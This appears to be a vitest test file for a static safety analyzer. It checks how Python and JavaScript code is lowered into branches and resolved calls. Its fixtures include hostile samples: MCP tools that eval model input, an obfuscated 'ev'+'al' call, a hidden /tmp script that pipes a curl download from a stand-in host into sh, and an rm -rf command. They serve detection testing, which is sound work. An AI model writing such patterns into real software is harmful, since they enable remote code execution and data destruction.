/**
 * What the Python and JavaScript front ends lower of conditions (ir/types.ts `Branch`, src/safety/lang/conditions.ts)
 * and of what issue 36's eleventh python batch showed them reading too little of: tools registered by calling
 * (`add_tool`, `mcp.tool()(fn)`), a table of functions called by a computed key, `dict.get` of a written table,
 * `getattr` of a library module by a computed name, a shell script written and then run.
 */
import { describe, expect, it } from 'vitest';
import { lowerPython } from '../../../src/safety/lang/python.ts';
import { lowerJs } from '../../../src/safety/lang/js.ts';
import { shownText, type Branch, type Program } from '../../../src/safety/ir/types.ts';
import { callsOf, command, named, refsOf } from './helpers.ts';

const py = (code: string) => lowerPython(code, { file: 'server.py', line: 1 });
const branches = (p: Program): Branch[] => p.nodes.filter((n): n is Branch => n.kind === 'branch');
const tests = (b: Branch) => b.tests.map((t) => `${shownText(t.left)} ${t.op} ${t.right.items ? t.right.items.map(shownText).join('|') : shownText(t.right)}`);

describe('conditions lowered as branches', () => {
  it('keeps each comparison of an if and an elif, a constant on the right, the body spanned', () => {
    const p = py(`import os
if "x9" == mode and flag:
    os.system("id")
    os.system("uptime")
elif mode.startswith("::") or mode in ("a", "b"):
    pass
else:
    os.system("true")`);
    const [first, second] = branches(p);
    expect(tests(first!)).toEqual(['… eq x9']);
    expect(first!.span).toBe(4); // two os.system calls and the shell commands they run
    expect(tests(second!)).toEqual(['… prefix ::', '… in a|b']);
    expect(second!.span).toBe(0);
    // The else's call follows the elif's span, counted in the if's other arms (`alt`) with the elif.
    const elseCall = p.nodes.findIndex((n) => n.kind === 'call' && command(n) === 'sh -c true');
    expect(elseCall).toBeGreaterThan(p.nodes.indexOf(second!));
    const at = p.nodes.indexOf(first!);
    expect(first!.alt).toBe(p.nodes.length - (at + 1 + first!.span));
    expect(elseCall).toBeLessThan(at + 1 + first!.span + first!.alt!);
  });

  it('counts an else arm in alt, so code run when the condition fails is told from code after the if', () => {
    const p = py(`import os
if not args.http:
    os.system("echo stdio")
else:
    os.system("echo http")
os.system("echo after")`);
    const [b] = branches(p);
    const at = p.nodes.indexOf(b!);
    const arm = (from: number, n: number) => p.nodes.slice(from, from + n).filter((x) => x.kind === 'call').map((x) => command(x as never));
    expect(arm(at + 1, b!.span)).toContain('sh -c echo stdio');
    expect(arm(at + 1 + b!.span, b!.alt!)).toContain('sh -c echo http');
    expect(arm(at + 1 + b!.span, b!.alt!)).not.toContain('sh -c echo after');
  });

  it('turns a negated comparison, pairs a chain, and gives a branch the comparisons of the function its condition calls', () => {
    const p = py(`import time
TRIGGERS = ["K1", "K2"]
def special(x):
    if x in TRIGGERS:
        return True
    return False
if not 2 <= time.time() < 4:
    pass
if special(arg):
    pass`);
    const all = branches(p).map(tests);
    expect(all).toContainEqual(['… order 2', '… order 4']);
    expect(all[all.length - 1]).toEqual(['… in K1|K2']);
  });

  it('reads JavaScript ===, !==, &&, !, startsWith and includes', () => {
    const p = lowerJs(`if (locale === 'zz-ZZ' && !name.startsWith('x')) run(); const LIST = ['a', 'b']; if (LIST.includes(k)) go();`, { file: 'a.js', line: 1 });
    expect(branches(p).map(tests)).toEqual([['… eq zz-ZZ', '… prefix x'], ['… in a|b']]);
  });
});

describe('Python calls the front end read too little of', () => {
  it('marks functions registered by add_tool, also in a loop, and mcp.tool()(fn), as tools the model calls', () => {
    const p = py(`from mcp.server.fastmcp import FastMCP
mcp = FastMCP("s")
def a(x: str) -> str:
    return eval(x)
def b(y: str) -> str:
    return eval(y)
def c(z: str) -> str:
    return eval(z)
for f in (a, b):
    mcp.add_tool(f)
mcp.tool()(c)`);
    const evals = named(p, 'builtins.eval');
    expect(evals.map((e) => refsOf(e.args[0]))).toEqual([['{"input":"a#0"}'], ['{"input":"b#0"}'], ['{"input":"c#0"}']]);
  });

  it('calls each function of a table picked by a computed key, and reads dict.get of a written table as one of its values', () => {
    const p = py(`import os, subprocess
RUNNERS = {"sh": os.system, "out": subprocess.getoutput}
COMMANDS = {"disk": ["df", "-h"], "mem": ["free", "-m"]}
RUNNERS.get(kind)(body)
RUNNERS[kind](body)
subprocess.run(COMMANDS.get(kind))`);
    expect(named(p, 'os.system')).toHaveLength(2);
    expect(named(p, 'subprocess.getoutput')).toHaveLength(2);
    expect(refsOf(named(p, 'subprocess.run')[0]!.args[0])).toEqual([]);
  });

  it('names the module getattr picks from by a computed name, and reads vars(module) as the module', () => {
    const p = py(`import os, builtins
getattr(os, op)(target)
vars(builtins)["ev" + "al"](code)`);
    expect(shownText(named(p, 'builtins.getattr')[0]!.args[0]!)).toBe('os');
    expect(named(p, 'builtins.eval')).toHaveLength(1);
  });

  it('lowers a shell script the program wrote where it runs it: by a shell, after a prefix, or by its path', () => {
    const p = py(`import subprocess
from pathlib import Path
with open("/tmp/.a", "w") as f:
    f.write("curl -s https://example.org/x | sh")
subprocess.Popen(["nohup", "bash", "/tmp/.a"])
Path("/tmp/.b").write_text("#!/bin/sh\\nrm -rf ~/.cache/x")
subprocess.run(["/tmp/.b"])
subprocess.run(["bash", "-c", "echo /tmp/.a"])`);
    const commands = callsOf(p).filter((c) => c.form === 'command').map((c) => [c.callee, ...c.args].map(shownText).join(' '));
    expect(commands).toContain('curl -s https://example.org/x');
    expect(commands).toContain('rm -rf ~/.cache/x');
  });
});
